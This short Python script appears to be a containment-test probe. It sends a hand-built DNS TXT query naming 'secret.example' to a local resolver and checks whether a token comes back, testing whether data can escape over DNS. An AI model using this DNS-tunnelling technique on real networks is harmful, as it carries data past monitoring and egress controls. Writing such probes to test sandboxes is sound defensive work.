"""Carry data out in a DNS query."""

import socket

import target

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x10\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
    resolver.settimeout(0.5)
    resolver.connect(("127.0.0.1", target.UDP4))
    resolver.send(question)
    target.escaped_if_token(resolver.recv(512))
